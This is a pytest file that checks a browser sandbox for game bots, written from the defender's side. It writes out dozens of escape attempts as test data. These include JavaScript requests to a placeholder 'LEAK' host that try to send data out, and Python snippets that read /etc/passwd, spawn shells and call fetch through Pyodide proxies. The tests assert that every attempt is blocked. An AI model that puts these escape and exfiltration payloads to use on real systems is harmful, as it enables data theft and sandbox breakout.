"""Tests of the sandbox for bots: hostile programs must not reach anything (`docs/bots.md`)."""

from __future__ import annotations

import hashlib
import json
import re
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from conftest import Opener
from driver import Page
from waiting import wait_for

from navals import games
from navals.cli.serve import running_server
from navals.thinking.packing import pack

pytestmark = [pytest.mark.browser, pytest.mark.once]

HOSTILE = Path(__file__).with_name("hostile.js")
NAMES = re.findall(r'^\t"?([\w ]+)"?: (?:async )?\(\) =>', HOSTILE.read_text(encoding="utf-8"), re.MULTILINE)
"""Names of the worker's attempts to break out."""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Run a permissive server of another origin; yield its URL and the list of requested paths."""
    came: list[str] = []

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            came.append(self.path)
            self.send_response(200)
            for name, value in (
                ("Access-Control-Allow-Origin", "*"),
                ("Cross-Origin-Resource-Policy", "cross-origin"),
                ("Content-Type", "text/javascript"),
                ("Content-Length", "0"),
            ):
                self.send_header(name, value)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", came
        server.shutdown()


@cache
def module(dist: Path) -> str:
    """Return the name of the script that contains the sandbox."""
    scripts = dist.glob("assets/*.js")
    (name,) = (path.name for path in scripts if "allow-scripts" in path.read_text(encoding="utf-8"))
    return name


def in_page(page: Page, code: str, **values: Any) -> Any:
    """Run the body of an asynchronous function in the page, and return its result."""
    return page.evaluate(f"(async () => {{ const given = {json.dumps(values)}; {code} }})()")


START = """const { createSandbox } = await import(`./assets/${given.module}`);
  const sandbox = createSandbox({ program: given.program, files: {} });
  await sandbox.ready; """
ASK = (
    START
    + """const begun = performance.now();
  const said = await sandbox.ask(given.name, given.ms).catch((reason) => `ended: ${reason.reason}`);
  // Who has spoken out of turn is thrown away as soon as that is heard.
  for (let left = 100; left && given.ends && document.querySelector("iframe");
      left -= 1) await new Promise((resolve) => setTimeout(resolve, 10));
  const after = await sandbox.ask("names", 1000).catch((reason) => `ended: ${reason.reason}`);
  sandbox.stop();
  return { said, after, took: performance.now() - begun, frames: document.querySelectorAll("iframe").length,
      poisoned: {}.poisoned === 1 };"""
)
ALL = (
    START
    + """const found = {};
  for (const name of given.names) found[name] = await sandbox.ask(name, 5000).catch((reason) =>
      `ended: ${reason.reason}`);
  sandbox.stop();
  return found;"""
)


BARE = "licences.html"
"""A page of the site with the usual policy and headers, but without an engine."""


BAIT = """await caches.open("navals-deck");
  localStorage.setItem("navals", "deck");
  await new Promise((done) => { const request = indexedDB.open("navals");
      request.onsuccess = () => done(request.result.close()); });"""
"""Store some data for hostile programs to look for."""


@contextmanager
def opened(visit: Opener, url: str) -> Iterator[Page]:
    """Open a bare page and ignore reports of blocked requests; `listening` shows whether any got out."""
    with visit(url + BARE) as (page, guard):
        guard.allow("")
        in_page(page, BAIT)
        yield page


def test_enough_is_tried() -> None:
    assert len(NAMES) >= 40


def test_a_program_reaches_nothing(visit: Opener, site: str, dist: Path) -> None:
    """Try to reach the network, storage, the page, and other programs."""
    with listening() as (leak, came), opened(visit, site) as page:
        program = (
            HOSTILE.read_text(encoding="utf-8").replace("@LEAK@", leak).replace("@SITE@", site.rstrip("/"))
        )
        results = in_page(page, ALL, module=module(dist), program=program, names=NAMES)
        for name in NAMES:
            assert results[name].startswith("kept: "), f"{name}: {results[name]}"
        assert not came


def attacked(page: Page, dist: Path, name: str, code: str = ASK, ms: int = 5000, **values: Any) -> Any:
    """Run one attack of the hostile program in the sandbox, and return the findings."""
    program = HOSTILE.read_text(encoding="utf-8")
    return in_page(page, code, module=module(dist), program=program, name=name, ms=ms, **values)


def test_nobody_hears_it(visit: Opener, site: str, dist: Path) -> None:
    """Broadcast channels are separate for each origin."""
    hear = (
        'globalThis.heard = []; for (const one of ["navals", "navals-engine"]) { const channel = new'
        " BroadcastChannel(one); channel.onmessage = ({ data }) => heard.push(JSON.stringify(data)); } "
    )
    with opened(visit, site) as page:
        code = hear + ASK.replace(
            "sandbox.stop();", "sandbox.stop(); given.heard = heard.filter((one) => one.includes('escaped'));"
        ).replace("return {", "return { heard: given.heard, ")
        reply = attacked(page, dist, "told to others", code)
        assert (reply["said"], reply["heard"]) == ("said", [])


BREAKERS = {
    "an object": "size", "shared memory": "size", "a long text": "size", "a flood": "talk",
    "two answers": "talk", "an error": "died",
    "a loop": "time", "a loop in another worker": "time", "a loop of promises": "time", "silence": "time",
}  # fmt: skip
"""What a misbehaving program does instead of sending one answer, and the reason given when it is stopped."""


LIMIT = 400
"""Time limit for an answer, in milliseconds."""


def test_who_breaks_the_rules_is_thrown_away(visit: Opener, site: str, dist: Path) -> None:
    """Stop a misbehaving program soon after its time limit; the page keeps working."""
    with opened(visit, site) as page:
        for name, end in BREAKERS.items():
            # Only programs without an answer should hit the time limit.
            limit = LIMIT if end == "time" else 10 * LIMIT
            reply = attacked(page, dist, name, ms=limit, ends=True)
            # Of two answers, the first may have been accepted.
            assert reply["said"] == f"ended: {end}" or (end == "talk" and reply["said"] in ("one", "x")), name
            assert reply["after"] == f"ended: {end}", name
            assert reply["took"] < limit + 3000, name
            assert reply["frames"] == 0, f"{name}: the frame is gone, and its worker with it"


def test_a_text_is_only_a_text(visit: Opener, site: str, dist: Path) -> None:
    with opened(visit, site) as page:
        reply = attacked(page, dist, "a poisoned text")
        assert reply["said"].startswith('{"__proto__"') and not reply["poisoned"]


FRAME = """const { createSandbox } = await import(`./assets/${given.module}`);
  const sandbox = createSandbox({ program: "", files: {} });
  sandbox.ready.catch(() => {});
  const { srcdoc, attributes } = document.querySelector("iframe");
  const all = Object.fromEntries([...attributes].map(({ name, value }) => [name, value]));
  sandbox.stop();
  return { ...all, srcdoc };"""


def test_no_other_script_runs_in_the_frame(visit: Opener, site: str, dist: Path) -> None:
    """The page's policy applies to the frame too, and allows a single script."""
    with opened(visit, site) as page:
        frame = in_page(page, FRAME, module=module(dist))
        messages = in_page(
            page,
            """const heard = [];
            addEventListener("message", ({ data }) => heard.push(data));
            const frame = document.createElement("iframe");
            frame.setAttribute("sandbox", "allow-scripts");
            frame.srcdoc = `<script>parent.postMessage("inline", "*")<\\/script>
              <img src="x:" onerror="parent.postMessage('handler', '*')">
              <script src="data:text/javascript,parent.postMessage('data','*')"><\\/script>
              <iframe srcdoc="<script>top.postMessage('deeper','*')<\\/script>"></iframe>`;
            const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
            document.body.append(frame);
            await loaded;
            await new Promise((resolve) => setTimeout(resolve, 300));
            frame.remove();
            return heard;""",
        )
        assert messages == []
        assert frame["sandbox"] == "allow-scripts"


BREAKOUT = """
const tell = (name, said) => parent.postMessage([name, String(said)], "*");
const attempts = {
  "page": () => parent.document.title,
  "page's storage": () => parent.localStorage.length,
  "top": () => { top.location.href = "LEAK/top"; return "asked"; },
  "top's place": () => top.location.href,
  "popup": () => { if (!open("LEAK/popup")) throw new Error("none"); },
  "storage": () => localStorage.length,
  "session": () => sessionStorage.length,
  "cookie": () => { if (!document.cookie.includes("deck")) throw new Error("not ours"); },
  "database": () => indexedDB.open("navals") && new Promise((_, no) => setTimeout(no, 1)),
  "caches": async () => { if (!(await caches.keys()).length) throw new Error("not ours"); },
  "service worker": () => navigator.serviceWorker.register("/sw.js"),
  "fetch": () => fetch("LEAK/fetch", { mode: "no-cors" }),
  "beacon": () => { navigator.sendBeacon("LEAK/beacon", "x"); throw new Error("asked"); },
  "image": () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no;
      i.src = "LEAK/image"; }),
  "style": () => { document.body.style.background = "url(LEAK/style)";
      document.body.insertAdjacentHTML("beforeend",
      "<style>body{background:url(LEAK/sheet)}</style><link rel=stylesheet href=LEAK/link>");
      throw new Error("asked"); },
  "prefetch": () => { document.head.insertAdjacentHTML("beforeend",
      "<link rel=prefetch href=LEAK/prefetch>" +
      "<link rel=preload as=script href=LEAK/preload><link rel=preconnect href=LEAK>");
      throw new Error("asked"); },
  "form": () => { document.body.insertAdjacentHTML("beforeend",
      "<form action=LEAK/form method=post><input name=a value=b></form>"); document.forms[0].submit();
      throw new Error("asked"); },
  "download": () => { const a = document.createElement("a"); a.href = "data:text/plain,x";
      a.download = "x.txt"; document.body.append(a); a.click(); throw new Error("asked"); },
  "frame in the frame": () => { document.body.insertAdjacentHTML("beforeend",
      "<iframe src=LEAK/frame></iframe><object data=LEAK/object></object><embed src=LEAK/embed>");
      throw new Error("asked"); },
  "refresh": () => { document.head.insertAdjacentHTML("beforeend", "<base href=LEAK/base>");
      throw new Error("asked"); },
  "dialog": () => { if (!confirm("yes?")) throw new Error("no"); },
  "full screen": () => document.documentElement.requestFullscreen(),
  "clipboard": () => navigator.clipboard.readText(),
  "place": () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  "camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
  "notification": async () => {
    if ((await Notification.requestPermission()) !== "granted") throw new Error("denied"); },
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { tell(name, "ESCAPED: " + (await attempt())); } catch (reason) { tell(name, "kept: " + reason); }
  }
  tell("end", "");
})();
"""


def test_the_frame_itself_holds(visit: Opener, dist: Path, site: str, tmp_path: Path) -> None:
    """Check the frame's own restrictions: put another script into it, on a page without a policy."""
    (tmp_path / "index.html").write_text(
        '<!doctype html><title>Deck</title><link rel="icon" href="data:,">', encoding="utf-8"
    )
    with opened(visit, site) as page:
        frame = in_page(page, FRAME, module=module(dist))
    with listening() as (leak, came), running_server(tmp_path) as url, visit(url) as (page, guard):
        guard.allow("")
        script = BREAKOUT.replace("LEAK", leak)
        digest = "sha256-" + b64encode(hashlib.sha256(script.encode()).digest()).decode()
        markup = re.sub(r"<script>.*</script>", "", frame.pop("srcdoc"), flags=re.DOTALL)
        markup = re.sub(r"sha256-[^']+", lambda _: digest, markup) + f"<body><script>{script}</script>"
        page.evaluate(f"""(() => {{ globalThis.heard = {{}};
            document.cookie = "deck=1";
            void caches.open("deck");
            addEventListener("message", ({{ data }}) => {{ heard[data[0]] = data[1]; }});
            const frame = document.createElement("iframe");
            for (const [name, value] of Object.entries({json.dumps(frame)})) frame.setAttribute(name, value);
            frame.srcdoc = {json.dumps(markup)};
            document.body.append(frame); }})()""")
        wait_for(page, "'end' in globalThis.heard", "all is tried")
        heard: dict[str, str] = page.evaluate("heard")
        tried = re.findall(r'^  "([^"]+)": ', BREAKOUT, re.MULTILINE)
        for name in tried:
            # Some browsers do not report that this was blocked, so check that the page is still there.
            assert heard[name].startswith("kept: ") or (name, heard[name]) == (
                "top",
                "ESCAPED: asked",
            ), f"{name}: {heard[name]}"
        assert len(tried) > 24
        assert page.evaluate("document.title") == "Deck"
        assert not came


PYTHON: dict[str, str] = {
    "js": "import js; js.fetch('LEAK/js')",
    "js again": "import sys; sys.modules.pop('js', None); import js; js.fetch('LEAK/js2')",
    "js by name": "import importlib; importlib.import_module('js').fetch('LEAK/js3')",
    "pyodide's page": "import pyodide_js; pyodide_js.loadPackage('LEAK/package.whl')",
    "script": "from pyodide.code import run_js; run_js('fetch(`LEAK/run`)')",
    "pyodide's network": "from pyodide.http import pyfetch; pyfetch('LEAK/pyfetch')",
    "micropip": "import micropip",
    "site": "import navals_site",
    "address": "import urllib.request; urllib.request.urlopen('LEAK/urllib')",
    "socket": "import socket; socket.create_connection(('127.0.0.1', 80), 1)",
    "process": "import subprocess; subprocess.run(['ls'])",
    "shell": "import os; assert os.system('ls') == 0",
    "file": "open('/etc/passwd').read()",
    "library": "import ctypes; ctypes.CDLL('libc.so')",
    "memory": "held = []\nwhile True: held.append(bytearray(1 << 26))",
    "one large piece": "bytearray(1 << 30)",
    "recursion": "def down(): down()\ndown()",
    "exit": "import sys; sys.exit(0)",
    "no function": "x = 1",
    "no Python": "def play(view, actions, rng:\n    pass",
}
"""Attempts of a bot that must all end in an error."""

OBJECTS = """import gc
found = [one for one in gc.get_objects() if type(one).__name__ == "JsProxy"]
for one in found:
    for name in ("fetch", "postMessage", "close"):
        try: getattr(one, name)("LEAK/object")
        except BaseException: pass
    try: one.constructor.constructor("fetch('LEAK/constructor')")()
    except BaseException: pass
def play(view, actions, rng): return actions[0]"""

CELL = """document.head.insertAdjacentHTML("beforeend", given.runtime);
  const { createCell } = await import(`./assets/${given.module}`);
  const cell = await createCell(given.game);
  await cell.ready;
  const ask = async (what, ms = 20000) => cell.ask(JSON.stringify(what), ms).then(JSON.parse, (reason) => ({
      end: reason.reason }));
  const found = {};
  for (const [name, source] of Object.entries(given.tried)) found[name] = await ask({
      do: "load", game: given.game, source });
  found["a move"] = await ask({ do: "play", view: given.view, seed: 1 });
  const begun = performance.now();
  found["a loop"] = await ask({ do: "load", game: given.game, source: "while True: pass" }, 500);
  found.took = performance.now() - begun;
  found.frames = document.querySelectorAll("iframe").length;
  return found;"""


@pytest.mark.tour
def test_a_bot_moves_and_reaches_nothing(visit: Opener, site: str, dist: Path) -> None:
    """Run the whole engine in the sandbox of each browser: escapes from Python, memory, loops, and a move."""
    game = games.find(games.IDS[0])
    view = pack(game.start(game.schema.default()).view(0))
    with listening() as (leak, came), opened(visit, site) as page:
        tried = {name: source.replace("LEAK", leak) for name, source in PYTHON.items()}
        last = {
            "much said": "print('x' * 10_000_000)\ndef play(*a): return 'x'",
            "objects": OBJECTS.replace("LEAK", leak),
        }
        index = (dist / "index.html").read_text(encoding="utf-8")
        runtime = re.findall(r'<script[^>]* id="runtime".*?</script>', index, re.DOTALL)
        runs = in_page(
            page, CELL, module=module(dist), game=game.id, view=view, tried=tried | last, runtime=runtime[0]
        )
        for name in PYTHON:
            assert runs[name].get("error"), f"{name}: {runs[name]}"
        assert "MemoryError" in runs["memory"]["error"] and "MemoryError" in runs["one large piece"]["error"]
        assert "RecursionError" in runs["recursion"]["error"]
        assert (runs["no Python"]["line"], runs["recursion"]["line"]) == (1, 1)
        assert len(runs["much said"].get("printed", "")) in range(1, 10_000), runs["much said"]
        assert runs["a move"]["action"], runs["a move"]
        assert runs["a loop"] == {"end": "time"} and runs["took"] < 1500 and runs["frames"] == 0
        assert not came
